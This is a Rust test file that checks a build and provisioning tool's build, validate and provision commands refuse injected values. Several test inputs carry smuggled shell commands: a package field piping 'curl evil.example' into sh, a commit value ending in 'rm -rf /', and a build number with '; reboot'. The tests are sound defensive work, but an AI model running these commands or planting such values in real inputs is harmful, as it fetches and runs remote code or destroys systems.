//! Every value that reaches the provisioning script is checked by one
//! check that `build`, `provision` and `validate` share: hostile values are
//! refused by field before any AWS call or connection.

use crate::harness::Project;

const HOSTILE_PACKAGE: &str = "app.node_package=nodejs\"; curl evil.example | sh; \"";

#[test]
fn build_validate_and_provision_refuse_a_hostile_node_package() {
    for args in [
        vec!["validate"],
        vec!["build", "--commit", "abc1234", "--build-number", "1"],
        vec![
            "provision",
            "--host",
            "127.0.0.1",
            "--port",
            "9",
            "--known-hosts",
            "/dev/null",
            "--commit",
            "abc1234",
            "--build-number",
            "1",
        ],
    ] {
        let project = Project::offline("");
        let mut args = args;
        args.extend(["--set", HOSTILE_PACKAGE]);
        let run = project.run(&args);
        assert_eq!(run.code, Some(2), "{run}");
        assert!(run.stderr.contains("app.node_package:"), "{run}");
    }
}

#[test]
fn build_validate_and_provision_refuse_a_hostile_commit_or_build_number() {
    let project = Project::offline("");
    for args in [
        vec!["build", "--build-number", "1"],
        vec![
            "provision",
            "--host",
            "127.0.0.1",
            "--port",
            "9",
            "--known-hosts",
            "/dev/null",
            "--build-number",
            "1",
        ],
    ] {
        let run = project
            .command(&args)
            .env("BAKER_COMMIT", "abc\nBAKER_ENV\nrm -rf /")
            .output()
            .expect("runs");
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert_eq!(run.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains("commit:"), "{args:?}: {stderr}");
    }
    let run = project
        .command(&["validate"])
        .env("TRAVIS_BUILD_NUMBER", "7; reboot")
        .output()
        .expect("runs");
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert_eq!(run.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("build number:"), "{stderr}");
}
